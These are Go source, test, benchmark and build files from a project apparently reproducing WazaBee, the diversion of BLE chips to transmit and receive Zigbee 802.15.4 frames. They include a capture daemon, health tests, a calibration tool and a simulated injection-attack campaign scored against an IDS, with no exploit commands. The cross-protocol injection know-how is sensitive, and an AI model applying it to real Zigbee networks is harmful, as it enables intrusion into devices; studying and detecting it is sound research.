		conns.Add(1)
		go func() {
			defer conns.Done()
			defer conn.Close()
			defer sub.Close()
			for {
				rec, ok := sub.Recv()
				if !ok {
					return
				}
				if err := capture.WriteRecord(conn, rec); err != nil {
					return // subscriber went away
				}
			}
		}()
	}
}

// serveZEP tracks UDP subscribers (any inbound datagram subscribes its
// source address) and pushes each captured frame as one ZEP v2 packet.
// The health component goes Down when the registration socket dies —
// existing collectors keep receiving, but new ones can no longer join.
func (d *daemon) serveZEP(hc *obs.HealthComponent) {
	reg := obs.Default()
	var mu sync.Mutex
	peers := make(map[string]net.Addr)

	// Registration loop: one datagram from a collector subscribes it.
	go func() {
		buf := make([]byte, 64)
		for {
			_, addr, err := d.zepPC.ReadFrom(buf)
			if err != nil {
				hc.SetDown("registration socket closed: " + err.Error())
				return // socket closed on shutdown
			}
			mu.Lock()
			peers[addr.String()] = addr
			reg.Gauge("wazabee_capture_zep_subscribers").Set(float64(len(peers)))
			mu.Unlock()
		}
	}()

	sub, err := d.hub.Subscribe("zep", d.cfg.queueDepth)
	if err != nil {
		return
	}
	for {
		rec, ok := sub.Recv()
		if !ok {
			return
		}
		if len(rec.PSDU) == 0 {
			continue
		}
		// The datagram reuses the record's own stream sequence number, so
		// collectors see the same numbering (and gaps) as the capture loop.
		datagram, err := capture.EncodeZEPRecord(rec, uint16(d.cfg.deviceID))
		if err != nil {
			continue
		}
		mu.Lock()
		for key, addr := range peers {
			if _, err := d.zepPC.WriteTo(datagram, addr); err != nil {
				delete(peers, key)
				continue
			}
			reg.Counter("wazabee_capture_zep_datagrams_total").Inc()
		}
		reg.Gauge("wazabee_capture_zep_subscribers").Set(float64(len(peers)))
		mu.Unlock()
	}
}
