package main

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"wazabee/internal/capture"
	"wazabee/internal/zigbee"
)

// TestDaemonSmoke runs the daemon end-to-end: it starts, serves one
// TCP record subscriber and one ZEP/UDP subscriber, tees a non-empty
// pcap file, and shuts down cleanly on context cancellation.
func TestDaemonSmoke(t *testing.T) {
	dir := t.TempDir()
	cfg := config{
		seed:         7,
		sps:          8,
		snrDB:        25,
		interval:     20 * time.Millisecond,
		channel:      zigbee.DefaultChannel,
		periods:      0, // run until cancelled
		pcapPath:     filepath.Join(dir, "smoke.pcap"),
		pcapMaxBytes: 0,
		listenTCP:    "127.0.0.1:0",
		listenZEP:    "127.0.0.1:0",
		deviceID:     0x5742,
		queueDepth:   64,
	}
	d, err := newDaemon(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if d.tcpAddr() == "" || d.zepAddr() == "" {
		t.Fatalf("listeners not bound: tcp=%q zep=%q", d.tcpAddr(), d.zepAddr())
	}

	ctx, cancel := context.WithCancel(context.Background())
	var out bytes.Buffer
	runDone := make(chan error, 1)
	go func() { runDone <- d.run(ctx, &out) }()

	// TCP subscriber: read two framed records.
	conn, err := net.Dial("tcp", d.tcpAddr())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetReadDeadline(time.Now().Add(10 * time.Second))
	var tcpFrames int
	for tcpFrames < 2 {
		rec, err := capture.ReadRecord(conn)
		if err != nil {
			t.Fatalf("tcp subscriber after %d records: %v", tcpFrames, err)
		}
		if rec.Channel != zigbee.DefaultChannel {
			t.Errorf("record on channel %d, want %d", rec.Channel, zigbee.DefaultChannel)
		}
		if len(rec.PSDU) > 0 {
			if rec.Decoder != "wazabee" {
				t.Errorf("decoded record tagged %q, want wazabee", rec.Decoder)
			}
			tcpFrames++
		}
	}

	// ZEP subscriber: one datagram subscribes, then frames arrive.
	zep, err := net.Dial("udp", d.zepAddr())
	if err != nil {
		t.Fatal(err)
	}
	defer zep.Close()
	if _, err := zep.Write([]byte("subscribe")); err != nil {
		t.Fatal(err)
	}
	zep.SetReadDeadline(time.Now().Add(10 * time.Second))
	buf := make([]byte, 2048)
	n, err := zep.Read(buf)
	if err != nil {
		t.Fatalf("zep subscriber: %v", err)
	}
	rec, deviceID, _, err := capture.DecodeZEP(buf[:n])
	if err != nil {
		t.Fatalf("zep datagram does not decode: %v", err)
	}
	if deviceID != 0x5742 {
		t.Errorf("zep device id %#x, want 0x5742", deviceID)
	}
	if rec.Channel != zigbee.DefaultChannel || len(rec.PSDU) == 0 {
		t.Errorf("zep record %+v lacks channel/frame", rec)
	}

	// Clean shutdown.
	cancel()
	select {
	case err := <-runDone:
		if err != nil {
			t.Fatalf("daemon exited with %v", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("daemon did not shut down")
	}
	if !strings.Contains(out.String(), "periods published") {
		t.Errorf("missing shutdown summary in output:\n%s", out.String())
	}

	// The pcap tee is non-empty and well-formed.
	records, err := capture.OpenPCAP(cfg.pcapPath)
	if err != nil {
		t.Fatal(err)
	}
	if len(records) == 0 {
		t.Fatal("pcap capture is empty")
	}
	for i, rec := range records {
		if len(rec.PSDU) == 0 {
			t.Errorf("pcap packet %d is empty", i)
		}
	}
}

// TestDaemonDebugEndpoints boots the daemon with the metrics server on an
// ephemeral port and checks the link-quality and log endpoints serve the
// pipeline's diagnostics while it runs.
func TestDaemonDebugEndpoints(t *testing.T) {
	cfg := config{
		seed:        7,
		sps:         8,
		snrDB:       25,
		interval:    10 * time.Millisecond,
		channel:     zigbee.DefaultChannel,
		periods:     0,
		listenTCP:   "127.0.0.1:0",
		listenZEP:   "127.0.0.1:0",
		metricsAddr: "127.0.0.1:0",
		deviceID:    0x5742,
		queueDepth:  64,
		logLevel:    "info",
	}
	d, err := newDaemon(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if d.metricsAddr() == "" {
		t.Fatal("metrics listener not bound")
	}

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var out bytes.Buffer
	runDone := make(chan error, 1)
	go func() { runDone <- d.run(ctx, &out) }()

	// Wait for frames to flow so the aggregator has something to say.
	conn, err := net.Dial("tcp", d.tcpAddr())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetReadDeadline(time.Now().Add(10 * time.Second))
	if _, err := capture.ReadRecord(conn); err != nil {
		t.Fatal(err)
	}

	get := func(path string) []byte {
		t.Helper()
		resp, err := http.Get("http://" + d.metricsAddr() + path)
		if err != nil {
			t.Fatalf("GET %s: %v", path, err)
		}
		defer resp.Body.Close()
		if resp.StatusCode != 200 {
			t.Fatalf("GET %s: status %d", path, resp.StatusCode)
		}
		body, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Fatal(err)
		}
		return body
	}

	var linkPayload struct {
		Channels []struct {
			Channel int    `json:"channel"`
			Frames  uint64 `json:"frames"`
		} `json:"channels"`
	}
	if err := json.Unmarshal(get("/debug/link"), &linkPayload); err != nil {
		t.Fatalf("/debug/link not JSON: %v", err)
	}
	if len(linkPayload.Channels) != 1 || linkPayload.Channels[0].Channel != zigbee.DefaultChannel {
		t.Fatalf("/debug/link channels = %+v", linkPayload.Channels)
	}
	if linkPayload.Channels[0].Frames == 0 {
		t.Error("/debug/link reports zero frames after a record was published")
	}

	var logPayload struct {
		Events []struct {
			Component string `json:"component"`
			Msg       string `json:"msg"`
		} `json:"events"`
	}
	if err := json.Unmarshal(get("/logz"), &logPayload); err != nil {
		t.Fatalf("/logz not JSON: %v", err)
	}
	if len(logPayload.Events) == 0 {
		t.Fatal("/logz returned no events from a running daemon")
	}
	seen := false
	for _, ev := range logPayload.Events {
		if ev.Component == "daemon" && strings.Contains(ev.Msg, "pipeline started") {
			seen = true
		}
	}
	if !seen {
		t.Errorf("/logz missing the daemon startup event: %+v", logPayload.Events)
	}

	cancel()
	select {
	case err := <-runDone:
		if err != nil {
			t.Fatalf("daemon exited with %v", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("daemon did not shut down")
	}
	if !strings.Contains(out.String(), "link quality by channel") {
		t.Errorf("missing link-quality summary in shutdown output:\n%s", out.String())
	}
}

// TestDaemonChunkedSmoke boots the daemon in streaming mode (-chunk):
// captures arrive as IQ slabs that are pushed through one long-lived
// RxStream, flushed per period. The subscribers must see the same
// decoded records as whole-capture mode, and the pool gauges must show
// the streaming pipeline recycling its buffers.
func TestDaemonChunkedSmoke(t *testing.T) {
	cfg := config{
		seed:     7,
		sps:      8,
		snrDB:    25,
		interval: 10 * time.Millisecond,
		channel:  zigbee.DefaultChannel,
		chunk:    1024,
		periods:  0, // run until cancelled, so /metrics stays up

		listenTCP:   "127.0.0.1:0",
		metricsAddr: "127.0.0.1:0",
		deviceID:    0x5742,
		queueDepth:  64,
		logLevel:    "info",
	}
	d, err := newDaemon(cfg)
	if err != nil {
		t.Fatal(err)
	}

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var out bytes.Buffer
	runDone := make(chan error, 1)
	go func() { runDone <- d.run(ctx, &out) }()

	conn, err := net.Dial("tcp", d.tcpAddr())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetReadDeadline(time.Now().Add(10 * time.Second))
	decoded := 0
	for i := 0; decoded < 2; i++ {
		rec, err := capture.ReadRecord(conn)
		if err != nil {
			t.Fatalf("after %d records: %v", i, err)
		}
		if rec.Channel != zigbee.DefaultChannel {
			t.Errorf("record on channel %d, want %d", rec.Channel, zigbee.DefaultChannel)
		}
		if len(rec.PSDU) > 0 {
			if rec.Decoder != "wazabee" {
				t.Errorf("decoded record tagged %q, want wazabee", rec.Decoder)
			}
			decoded++
		}
	}

	// The streaming pool gauges must be published and show reuse after
	// several periods through one long-lived stream.
	resp, err := http.Get("http://" + d.metricsAddr() + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	body, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	metrics := string(body)
	for _, name := range []string{"wazabee_stream_pool_hits_total", "wazabee_stream_pool_misses_total"} {
		if !strings.Contains(metrics, name) {
			t.Errorf("/metrics missing %s", name)
		}
	}

	cancel()
	select {
	case err := <-runDone:
		if err != nil {
			t.Fatalf("daemon exited with %v", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("daemon did not shut down")
	}
	if !strings.Contains(out.String(), "periods published") {
		t.Errorf("missing shutdown summary in output:\n%s", out.String())
	}
}
