package main

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"wazabee/internal/capture"
	"wazabee/internal/zigbee"
)

// healthConfig is the minimal daemon shape for the health tests: live
// pipeline, one TCP listener (the flip target), metrics server, no
// pcap, no ZEP.
func healthConfig() config {
	return config{
		seed:        7,
		sps:         8,
		snrDB:       25,
		interval:    10 * time.Millisecond,
		channel:     zigbee.DefaultChannel,
		periods:     0,
		listenTCP:   "127.0.0.1:0",
		metricsAddr: "127.0.0.1:0",
		deviceID:    0x5742,
		queueDepth:  64,
		logLevel:    "error",
	}
}

type healthBody struct {
	Status        string  `json:"status"`
	Ready         bool    `json:"ready"`
	UptimeSeconds float64 `json:"uptime_seconds"`
	Components    []struct {
		Name     string `json:"name"`
		Status   string `json:"status"`
		Critical bool   `json:"critical"`
	} `json:"components"`
}

func getJSON(t *testing.T, url string, into any) int {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatalf("GET %s: %v", url, err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	if into != nil {
		if err := json.Unmarshal(body, into); err != nil {
			t.Fatalf("GET %s: not JSON (%v): %s", url, err, body)
		}
	}
	return resp.StatusCode
}

// waitFirstRecord blocks until the daemon has published at least one
// record, so the endpoints are exercised on a warmed-up pipeline. The
// subscriber connection stays open (closed via t.Cleanup) so the
// shutdown table still has a live subscription to report.
func waitFirstRecord(t *testing.T, d *daemon) {
	t.Helper()
	conn, err := net.Dial("tcp", d.tcpAddr())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	conn.SetReadDeadline(time.Now().Add(10 * time.Second))
	if _, err := capture.ReadRecord(conn); err != nil {
		t.Fatal(err)
	}
}

// TestDaemonHealthEndpoints checks the healthy steady state: /healthz
// and /readyz answer 200 with the component roster, /debug/flight has
// recorded the pipeline's frame events, and the dedicated -health-addr
// listener serves the same probe set without the metrics handlers.
func TestDaemonHealthEndpoints(t *testing.T) {
	cfg := healthConfig()
	cfg.healthAddr = "127.0.0.1:0"
	d, err := newDaemon(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if d.healthAddr() == "" {
		t.Fatal("health listener not bound")
	}

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var out bytes.Buffer
	runDone := make(chan error, 1)
	go func() { runDone <- d.run(ctx, &out) }()
	waitFirstRecord(t, d)

	for _, base := range []string{d.metricsAddr(), d.healthAddr()} {
		for _, path := range []string{"/healthz", "/readyz"} {
			var body healthBody
			if code := getJSON(t, "http://"+base+path, &body); code != 200 {
				t.Fatalf("%s on %s: status %d", path, base, code)
			}
			if !body.Ready || body.Status != "ok" {
				t.Fatalf("%s on %s: %+v, want ready ok", path, base, body)
			}
			if body.UptimeSeconds <= 0 {
				t.Errorf("%s reports zero uptime", path)
			}
			got := make(map[string]string)
			for _, c := range body.Components {
				got[c.Name] = c.Status
			}
			for _, name := range []string{"live", "hub", "rxstream", "tcp"} {
				if got[name] != "ok" {
					t.Errorf("component %q = %q on %s, want ok (have %v)", name, got[name], base, got)
				}
			}
		}

		var flight struct {
			Recorded uint64 `json:"recorded"`
			Events   []struct {
				Kind  string `json:"kind"`
				Frame int64  `json:"frame"`
			} `json:"events"`
		}
		if code := getJSON(t, "http://"+base+"/debug/flight", &flight); code != 200 {
			t.Fatalf("/debug/flight on %s: status %d", base, code)
		}
		if flight.Recorded == 0 || len(flight.Events) == 0 {
			t.Fatalf("/debug/flight on %s is empty after records flowed", base)
		}
		frames := 0
		for _, ev := range flight.Events {
			if ev.Kind == "frame" {
				frames++
			}
		}
		if frames == 0 {
			t.Errorf("flight recorder on %s has no frame events: %+v", base, flight.Events)
		}
	}

	// The dedicated probe listener must NOT expose the debug surface.
	resp, err := http.Get("http://" + d.healthAddr() + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 404 {
		t.Errorf("/metrics on the health listener: status %d, want 404", resp.StatusCode)
	}

	// Live latency SLO evidence: the e2e deliver stage must be in
	// /metrics with per-subscriber labels.
	mresp, err := http.Get("http://" + d.metricsAddr() + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	mbody, _ := io.ReadAll(mresp.Body)
	mresp.Body.Close()
	for _, want := range []string{
		`wazabee_latency_seconds_count{stage="publish"}`,
		`stage="deliver"`,
		`stage="queue"`,
		`stage="demod"`,
		"wazabee_build_info{",
		"wazabee_uptime_seconds",
		"wazabee_runtime_goroutines",
		"wazabee_health_ready 1",
	} {
		if !strings.Contains(string(mbody), want) {
			t.Errorf("/metrics missing %q", want)
		}
	}

	cancel()
	select {
	case err := <-runDone:
		if err != nil {
			t.Fatalf("daemon exited with %v", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("daemon did not shut down")
	}
	for _, want := range []string{"wazabeed: subscribers:", "max queue", "flight recorder:"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("shutdown output missing %q:\n%s", want, out.String())
		}
	}
}

// TestDaemonReadyzFlip kills the TCP accept loop mid-run and checks
// /readyz degrades to 503 within one probe period while /healthz stays
// 200 — the liveness/readiness split a supervisor depends on.
func TestDaemonReadyzFlip(t *testing.T) {
	d, err := newDaemon(healthConfig())
	if err != nil {
		t.Fatal(err)
	}
	d.probeEvery = 20 * time.Millisecond

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var out bytes.Buffer
	runDone := make(chan error, 1)
	go func() { runDone <- d.run(ctx, &out) }()
	waitFirstRecord(t, d)

	var body healthBody
	if code := getJSON(t, "http://"+d.metricsAddr()+"/readyz", &body); code != 200 {
		t.Fatalf("initial /readyz: %d (%+v)", code, body)
	}

	// Kill the accept loop out from under the daemon.
	d.tcpLn.Close()

	deadline := time.Now().Add(5 * time.Second)
	for {
		code := getJSON(t, "http://"+d.metricsAddr()+"/readyz", &body)
		if code == http.StatusServiceUnavailable {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("/readyz still %d after the TCP listener died: %+v", code, body)
		}
		time.Sleep(d.probeEvery)
	}
	if body.Ready {
		t.Fatalf("503 body claims ready: %+v", body)
	}
	tcpDown := false
	for _, c := range body.Components {
		if c.Name == "tcp" && c.Status == "down" && c.Critical {
			tcpDown = true
		}
	}
	if !tcpDown {
		t.Fatalf("tcp component not reported down: %+v", body.Components)
	}

	// Liveness must survive the readiness failure.
	if code := getJSON(t, "http://"+d.metricsAddr()+"/healthz", &body); code != 200 {
		t.Fatalf("/healthz: %d after readiness loss", code)
	}

	cancel()
	select {
	case err := <-runDone:
		if err != nil {
			t.Fatalf("daemon exited with %v", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("daemon did not shut down")
	}
}
