// Command calibrate regenerates the fidelity-tier calibration table:
// the offline pass that runs ground-truth IQ frames across the Table III
// operating grid (both WazaBee chips on both sides plus the native
// O-QPSK link, an SNR sweep through the waterfall knee, crystal-budget
// carrier offsets, clean and WiFi-degraded channels) and fits the
// per-cell sync-failure rates and despreading distance distributions the
// symbol and frame fidelity tiers replay.
//
// Usage:
//
//	go run ./cmd/calibrate                  # rewrite internal/radio/caldata/table.json
//	go run ./cmd/calibrate -check           # regenerate and fail on drift (CI)
//	go run ./cmd/calibrate -frames 64 -out /tmp/table.json
//
// The fit is fully deterministic in -seed, so -check is a byte
// comparison: any drift means the DSP chain, the chip models or the
// fitter changed without the table being regenerated.
package main

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"time"

	"wazabee/internal/calib"
	"wazabee/internal/obs"
)

func main() {
	obs.RegisterBuildInfo(nil)
	out := flag.String("out", "internal/radio/caldata/table.json", "where to write the fitted table")
	check := flag.Bool("check", false, "regenerate and compare against -out instead of writing; non-zero exit on drift")
	frames := flag.Int("frames", calib.DefaultOptions().FramesPerCell, "ground-truth frames per grid cell")
	seed := flag.Int64("seed", calib.DefaultOptions().Seed, "fit seed")
	sps := flag.Int("sps", calib.DefaultOptions().SamplesPerChip, "IQ samples per chip")
	quiet := flag.Bool("q", false, "suppress progress output")
	flag.Parse()

	opts := calib.Options{SamplesPerChip: *sps, FramesPerCell: *frames, Seed: *seed}
	start := time.Now()
	if !*quiet {
		opts.Progress = func(profile string, done, total int) {
			fmt.Fprintf(os.Stderr, "calibrate: [%d/%d] %-25s %s\n", done, total, profile, time.Since(start).Round(time.Millisecond))
		}
	}
	table, err := calib.Fit(opts)
	if err != nil {
		fmt.Fprintln(os.Stderr, "calibrate:", err)
		os.Exit(1)
	}
	data, err := json.MarshalIndent(table, "", " ")
	if err != nil {
		fmt.Fprintln(os.Stderr, "calibrate:", err)
		os.Exit(1)
	}
	data = append(data, '\n')

	if *check {
		have, err := os.ReadFile(*out)
		if err != nil {
			fmt.Fprintln(os.Stderr, "calibrate: read checked-in table:", err)
			os.Exit(1)
		}
		if !bytes.Equal(have, data) {
			fmt.Fprintf(os.Stderr, "calibrate: %s drifted from a fresh fit (regenerate with `make calibrate`)\n", *out)
			os.Exit(1)
		}
		fmt.Fprintf(os.Stderr, "calibrate: %s matches a fresh fit (%s)\n", *out, time.Since(start).Round(time.Millisecond))
		return
	}
	if err := os.WriteFile(*out, data, 0o644); err != nil {
		fmt.Fprintln(os.Stderr, "calibrate:", err)
		os.Exit(1)
	}
	fmt.Fprintf(os.Stderr, "calibrate: wrote %s (%d profiles, %d bytes, %s)\n",
		*out, len(table.Profiles), len(data), time.Since(start).Round(time.Millisecond))
}
