package wazabee_test

import (
	"fmt"
	"log"

	"wazabee"
	"wazabee/internal/bitstream"
	"wazabee/internal/ieee802154"
)

// ExampleConvertPNSequence shows Algorithm 1 on the 0000 symbol's PN
// sequence.
func ExampleConvertPNSequence() {
	table, err := wazabee.CorrespondenceTable()
	if err != nil {
		log.Fatal(err)
	}
	msk, err := wazabee.ConvertPNSequence(table[0].PN)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(msk)
	// Output: 1100000011101111010111001101100
}

// ExampleCommonChannels prints Table II of the paper.
func ExampleCommonChannels() {
	for _, m := range wazabee.CommonChannels() {
		fmt.Printf("Zigbee %d = BLE %d (%g MHz)\n", m.Zigbee, m.BLE, m.FrequencyMHz)
	}
	// Output:
	// Zigbee 12 = BLE 3 (2410 MHz)
	// Zigbee 14 = BLE 8 (2420 MHz)
	// Zigbee 16 = BLE 12 (2430 MHz)
	// Zigbee 18 = BLE 17 (2440 MHz)
	// Zigbee 20 = BLE 22 (2450 MHz)
	// Zigbee 22 = BLE 27 (2460 MHz)
	// Zigbee 24 = BLE 32 (2470 MHz)
	// Zigbee 26 = BLE 39 (2480 MHz)
}

// ExampleNewTransmitter runs the headline loopback: a BLE chip transmits
// an 802.15.4 frame, another diverted BLE chip receives it.
func ExampleNewTransmitter() {
	tx, err := wazabee.NewTransmitter(wazabee.NRF52832(), 8)
	if err != nil {
		log.Fatal(err)
	}
	rx, err := wazabee.NewReceiver(wazabee.CC1352R1(), 8)
	if err != nil {
		log.Fatal(err)
	}

	frame := wazabee.NewDataFrame(1, 0x1234, 0x0042, 0x0063, []byte("hi"), false)
	psdu, err := frame.Encode()
	if err != nil {
		log.Fatal(err)
	}
	sig, err := tx.ModulatePSDU(psdu)
	if err != nil {
		log.Fatal(err)
	}
	padded, err := sig.Pad(100, 100)
	if err != nil {
		log.Fatal(err)
	}
	dem, err := rx.Receive(padded)
	if err != nil {
		log.Fatal(err)
	}
	decoded, err := ieee802154.ParseMACFrame(dem.PPDU.PSDU)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("%s (FCS ok: %v)\n", decoded.Payload, bitstream.CheckFCS(dem.PPDU.PSDU))
	// Output: hi (FCS ok: true)
}

// ExampleAccessAddress prints the Access Address a diverted BLE chip
// loads to detect 802.15.4 preambles.
func ExampleAccessAddress() {
	fmt.Printf("%#08x\n", wazabee.AccessAddress())
	// Output: 0x9b3af703
}
