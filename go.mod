module wazabee

go 1.22
