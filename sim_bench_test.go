package wazabee

// Virtual-time simulator benchmark: the event-loop throughput number
// behind the "thousand-node mesh, minutes of traffic per wall-clock
// second" claim. The extra metrics report simulated frames and scheduler
// events per wall second — BENCH.json carries them alongside ns/op.

import (
	"testing"
	"time"

	"wazabee/internal/zigbee/sim"
)

// BenchmarkSimEventLoop simulates 60 virtual seconds of the 1,111-node
// acceptance mesh (Tree(3,10): full association, 2-second beacon and
// data cadences, CSMA-CA, multihop forwarding) per iteration.
func BenchmarkSimEventLoop(b *testing.B) {
	topo := sim.Tree(3, 10)
	const virtual = 60 * time.Second

	b.ReportAllocs()
	b.ResetTimer()
	var frames, events uint64
	for i := 0; i < b.N; i++ {
		nw, err := sim.New(topo, sim.Config{Seed: 42})
		if err != nil {
			b.Fatal(err)
		}
		nw.Run(virtual)
		s := nw.Stats()
		frames += s.Frames
		events += s.Events
	}
	elapsed := b.Elapsed().Seconds()
	if elapsed > 0 {
		b.ReportMetric(float64(frames)/elapsed, "frames/s")
		b.ReportMetric(float64(events)/elapsed, "events/s")
	}
	b.ReportMetric(virtual.Seconds()*float64(b.N)/elapsed, "virtual_s/s")
}
