package wazabee

// Virtual-time simulator benchmark: the event-loop throughput number
// behind the "thousand-node mesh, minutes of traffic per wall-clock
// second" claim. The extra metrics report simulated frames and scheduler
// events per wall second — BENCH.json carries them alongside ns/op.

import (
	"io"
	"testing"
	"time"

	"wazabee/internal/zigbee/sim"
)

// benchSimEventLoop simulates 60 virtual seconds of the 1,111-node
// acceptance mesh (Tree(3,10): full association, 2-second beacon and
// data cadences, CSMA-CA, multihop forwarding) per iteration under the
// given instrumentation config.
func benchSimEventLoop(b *testing.B, cfg sim.Config) {
	topo := sim.Tree(3, 10)
	const virtual = 60 * time.Second
	cfg.Seed = 42

	b.ReportAllocs()
	b.ResetTimer()
	var frames, events uint64
	for i := 0; i < b.N; i++ {
		nw, err := sim.New(topo, cfg)
		if err != nil {
			b.Fatal(err)
		}
		nw.Run(virtual)
		if err := nw.CloseTrace(); err != nil {
			b.Fatal(err)
		}
		s := nw.Stats()
		frames += s.Frames
		events += s.Events
	}
	elapsed := b.Elapsed().Seconds()
	if elapsed > 0 {
		b.ReportMetric(float64(frames)/elapsed, "frames/s")
		b.ReportMetric(float64(events)/elapsed, "events/s")
	}
	b.ReportMetric(virtual.Seconds()*float64(b.N)/elapsed, "virtual_s/s")
}

// BenchmarkSimEventLoop is the uninstrumented baseline: the observatory
// off, every telemetry hook a nil check.
func BenchmarkSimEventLoop(b *testing.B) {
	benchSimEventLoop(b, sim.Config{})
}

// BenchmarkSimEventLoopObservatory runs with per-node/per-link counters
// and the radio energy accountant enabled — the ISSUE 8 budget is under
// 10% over the baseline.
func BenchmarkSimEventLoopObservatory(b *testing.B) {
	benchSimEventLoop(b, sim.Config{Telemetry: true})
}

// BenchmarkSimEventLoopTraced additionally streams the Chrome trace
// (discarded), pricing the full export path.
func BenchmarkSimEventLoopTraced(b *testing.B) {
	benchSimEventLoop(b, sim.Config{Telemetry: true, TraceWriter: io.Discard})
}
