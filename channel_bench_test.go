package wazabee

// Throughput comparison of the fidelity tiers behind radio.Channel
// (DESIGN.md §14): the same frame delivery at the same operating point
// through full IQ synthesis, calibrated per-symbol draws, and the
// closed-form per-frame erasure model. The trials/sec gap between the
// tiers is the headline number of the calibration work — the symbol
// tier must clear 100x the IQ tier's trial throughput.

import (
	"testing"

	"wazabee/internal/chip"
	"wazabee/internal/dsp"
	"wazabee/internal/ieee802154"
	"wazabee/internal/obs"
	"wazabee/internal/radio"
	"wazabee/internal/zigbee"
)

func benchChannel(b *testing.B, fid radio.Fidelity) {
	b.Helper()
	model := chip.NRF52832()
	medium, err := radio.NewMedium(benchSPS*ieee802154.ChipRate, 1)
	if err != nil {
		b.Fatal(err)
	}
	medium.Obs = obs.NewRegistry()

	frame := ieee802154.NewDataFrame(1, zigbee.DefaultPAN, zigbee.DefaultCoordinator,
		zigbee.DefaultSensor, zigbee.SensorPayload(0x2a), false)
	psdu, err := frame.Encode()
	if err != nil {
		b.Fatal(err)
	}
	freq, err := ieee802154.ChannelFrequencyMHz(zigbee.DefaultChannel)
	if err != nil {
		b.Fatal(err)
	}
	link := radio.Link{
		SNRdB:       5 - model.NoiseFigureDB,
		LeadSamples: 30 * benchSPS,
		LagSamples:  15 * benchSPS,
	}

	opts := radio.ChannelOptions{Profile: radio.CalProfileName(model.Name, "reception")}
	if fid == radio.FidelityIQ {
		zigbeePHY, err := chip.RZUSBStick().NewZigbeePHY(benchSPS)
		if err != nil {
			b.Fatal(err)
		}
		rx, err := model.NewWazaBeeReceiver(benchSPS)
		if err != nil {
			b.Fatal(err)
		}
		opts.Endpoints = &radio.IQEndpoints{
			Modulate: func(psdu []byte) (dsp.IQ, error) {
				ppdu, err := ieee802154.NewPPDU(psdu)
				if err != nil {
					return nil, err
				}
				return zigbeePHY.Modulate(ppdu)
			},
			Demodulate: func(capture dsp.IQ) ([]byte, error) {
				dem, err := rx.Receive(capture)
				if err != nil {
					return nil, err
				}
				return dem.PPDU.PSDU, nil
			},
		}
	}
	ch, err := medium.Channel(fid, opts)
	if err != nil {
		b.Fatal(err)
	}

	delivered := 0
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		out, err := ch.Deliver(radio.FrameSpec{
			PSDU:      psdu,
			TxFreqMHz: freq,
			RxFreqMHz: freq,
			Link:      link,
			Seed:      uint64(i),
		})
		if err != nil {
			b.Fatal(err)
		}
		if out.Delivered() {
			delivered++
		}
	}
	b.ReportMetric(float64(delivered)/float64(b.N), "valid-rate")
}

// BenchmarkChannelFidelity measures one mid-waterfall frame delivery
// per iteration on each tier of the radio.Channel interface.
func BenchmarkChannelFidelity(b *testing.B) {
	for _, fid := range []radio.Fidelity{radio.FidelityIQ, radio.FidelitySymbol, radio.FidelityFrame} {
		b.Run(fid.String(), func(b *testing.B) {
			benchChannel(b, fid)
		})
	}
}
