package wazabee

// Campaign-engine benchmark: the cost of one full scenario run (mesh
// formation, attack schedule, frame-tier IDS judging, scoring) at each
// mesh delivery tier. This is the per-trial unit cost behind the ROC
// matrix — cells/second on one core follows directly from it.

import (
	"testing"

	"wazabee/internal/campaign"
	"wazabee/internal/radio"
)

func benchCampaignScenario(b *testing.B, fid radio.Fidelity) {
	sc, err := campaign.ByName("scenario-a-injection")
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		inst, err := sc.Setup(campaign.Options{Seed: int64(i + 1), Fidelity: fid})
		if err != nil {
			b.Fatal(err)
		}
		if err := inst.Run(); err != nil {
			b.Fatal(err)
		}
		out := inst.Score()
		if out.FramesInjected == 0 {
			b.Fatal("scenario injected nothing")
		}
	}
}

func BenchmarkCampaignScenario(b *testing.B) {
	b.Run("frame", func(b *testing.B) { benchCampaignScenario(b, radio.FidelityFrame) })
	b.Run("symbol", func(b *testing.B) { benchCampaignScenario(b, radio.FidelitySymbol) })
}
