GO ?= go
FUZZTIME ?= 5s

.PHONY: build vet test race bench fuzz smoke ci

build:
	$(GO) build ./...

vet:
	$(GO) vet ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

bench:
	$(GO) test -bench . -benchmem .

# Short smoke runs of the native fuzzers: the capture readers must never
# panic on corrupt pcap/ZEP input.
fuzz:
	$(GO) test ./internal/capture -run '^$$' -fuzz FuzzPCAPRoundTrip -fuzztime $(FUZZTIME)
